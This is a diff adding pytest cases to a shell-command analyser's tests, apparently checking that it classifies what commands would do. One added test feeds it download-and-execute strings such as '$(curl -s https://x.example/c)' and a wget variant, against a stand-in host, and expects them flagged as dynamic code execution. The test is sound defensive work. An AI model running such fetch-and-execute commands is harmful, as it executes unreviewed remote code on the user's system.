@@ -38,11 +38,18 @@ def test_what_an_expansion_splits_into_runs(tree, command):
     assert home in deleted(tree.shell(command)), command
 
 
+@pytest.mark.parametrize("command", ["$(curl -s https://x.example/c)", "C=$(wget -qO- https://x.example/c); $C",
+                                     "`curl -s https://x.example/c` --flag"])
+def test_a_command_a_download_printed_is_code_nobody_read(tree, command):
+    assert [a for a in tree.shell(command) if a.kind == "exec" and a.program == "sh" and a.dynamic]
+
+
 def test_ordinary_expansions_and_functions(tree):
     root = str(tree.root)
     actions = tree.shell('F="notes from today.txt"; touch "$F"; ARGS="-q -x"; pytest $ARGS tests')
     assert {a.resource for a in actions if a.kind == "file_write"} == {f"{root}/notes from today.txt"}
     assert not [a for a in actions if a.dynamic]
+    assert not [a for a in tree.shell("$(which python3) -m pytest") if a.program == "sh"]
     actions = tree.shell('log() { echo "[$(date +%T)] $*"; }; log building; log done')
     assert not [a for a in actions if a.kind in ("file_delete", "network")]
     actions = tree.shell('g() { g "$@"; }; g a')  # a function that calls itself is walked once more, not forever
